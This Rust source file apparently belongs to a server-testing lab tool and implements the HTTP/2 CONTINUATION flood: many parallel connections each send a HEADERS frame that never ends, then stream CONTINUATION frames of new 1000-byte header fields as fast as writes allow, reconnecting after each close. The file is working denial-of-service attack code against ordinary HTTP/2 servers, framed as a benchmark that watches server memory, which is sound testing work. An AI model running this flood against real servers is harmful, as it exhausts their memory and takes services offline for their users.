//! `sselab bench attack continuation`: HTTP/2 header blocks that never end (the 2024 "CONTINUATION
//! flood"): a HEADERS frame without END_HEADERS, then CONTINUATION frames full of fresh header
//! fields, as fast as the writes go, until the server ends the connection; then the next one.
//! What the server must not do is keep the block: its RSS is the number to watch.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use serde::Serialize;
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

use super::args::AttackPlan;
use super::h2conn::{Endings, EndingsTally, H2Conn};
use super::rapid_reset::RETRY_PAUSE;
use crate::client::h2raw;

/// Header fields per CONTINUATION frame, of [`VALUE_BYTES`] each: just under the 16 KiB
/// frame size every HTTP/2 peer accepts.
const FIELDS_PER_FRAME: usize = 15;
const VALUE_BYTES: usize = 1000;

#[derive(Debug, Clone, Default, Serialize)]
pub struct ContinuationReport {
    /// Header bytes in writes the kernel took; after a GOAWAY the server reads none of what
    /// is still on its way.
    pub bytes_written: u64,
    pub bytes_per_sec: f64,
    pub endings: Endings,
}

#[derive(Default)]
struct Tally {
    bytes: AtomicU64,
    endings: EndingsTally,
}

/// Run `plan.connections` flooding connections until `stop` or `plan.limit` connections.
pub(super) async fn run(plan: Arc<AttackPlan>, stop: CancellationToken) -> ContinuationReport {
    let tally = Arc::new(Tally::default());
    let started = Instant::now();
    let mut workers = JoinSet::new();
    for _ in 0..plan.connections {
        let (plan, tally, stop) = (plan.clone(), tally.clone(), stop.clone());
        workers.spawn(async move {
            while !stop.is_cancelled() && tally.endings.endings().connections < plan.limit {
                match H2Conn::open(&plan, &tally.endings).await {
                    Ok(conn) => flood(conn, &plan, &tally, &stop).await,
                    Err(reason) => {
                        tally.endings.connect_failed(reason);
                        tokio::time::sleep(RETRY_PAUSE).await;
                    }
                }
            }
        });
    }
    while workers.join_next().await.is_some() {}
    let bytes = tally.bytes.load(Ordering::Relaxed);
    ContinuationReport {
        bytes_written: bytes,
        bytes_per_sec: bytes as f64 / started.elapsed().as_secs_f64().max(0.001),
        endings: tally.endings.endings(),
    }
}

/// One header block on stream 1 that never ends, until the server ends the connection.
async fn flood(mut conn: H2Conn, plan: &AttackPlan, tally: &Tally, stop: &CancellationToken) {
    let mut frames = Vec::new();
    h2raw::headers(&mut frames, 1, &H2Conn::request_block(plan), true, false);
    let value = "a".repeat(VALUE_BYTES);
    let mut field = 0u64;
    while !conn.ended() && !stop.is_cancelled() {
        let mut block = Vec::new();
        for _ in 0..FIELDS_PER_FRAME {
            // A new name each time: nothing for a decoder to recognise and skip.
            h2raw::field(&mut block, &format!("x-flood-{field}"), &value);
            field += 1;
        }
        h2raw::continuation(&mut frames, 1, &block, false);
        if conn.writer.write_all(&frames).await.is_err() || conn.writer.flush().await.is_err() {
            break;
        }
        tally
            .bytes
            .fetch_add(frames.len() as u64, Ordering::Relaxed);
        frames.clear();
        tokio::task::yield_now().await;
    }
    conn.finish(plan, &tally.endings, stop).await;
}
